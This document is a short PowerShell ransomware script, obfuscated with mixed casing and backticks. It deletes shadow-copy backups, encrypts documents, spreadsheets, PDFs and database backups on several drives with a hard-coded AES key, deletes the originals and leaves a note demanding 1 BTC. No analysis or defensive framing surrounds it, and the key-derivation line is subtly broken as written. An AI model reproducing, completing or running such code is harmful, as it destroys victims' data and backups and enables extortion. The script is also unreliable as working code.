# Init 9182 v1
VSSAdMiN.eXE DeletE SHAdOwS /all /QUIEt
GEt-WMi`Ob`Je`cT wIn32_shadOwcoPY | f`OReAch-Object { $_.deLETe() }
$Aes = [SySTem.SEcUrITy.cryPtogRaPhy.AeS]::CrEaTE()
$aES.KeY = [TeXt.eNCoding]::UTF8.GetBytES('Qwerty#7788Qwerty#7788'.suBsTRing(0,32))
GeT-`chIlD`itE`m -PatH d:\, E:\, C:\uSErs -incLUde *.docX,*.xlSx,*.pdF,*.SQL,*.BAK -RECurse -ERrOractiOn SilENtlYcOnTInUe | foREACH-ObJe`ct {
  $BytEs = [IO.fIlE]::reAdalLBYTes($_.fUlLnAMe)
  $eNc = $aEs.cReATEeNCrYpTOr().tRanSfoRMfInALbLoCk($BytEs, 0, $BYtes.lENGtH)
  [iO.FiLe]::WrItEaLLbYTes($_.fullnAmE + '.enc', $Enc)
  RE`M`oVE-`ITEM $_.fULLnAmE -foRCe
}
SeT-COnTEnt C:\uSERs\pubLIC\desKtoP\hoW_tO_deCRypt.TXt 'Your files have been encrypted. Pay 1 BTC to restore them.'
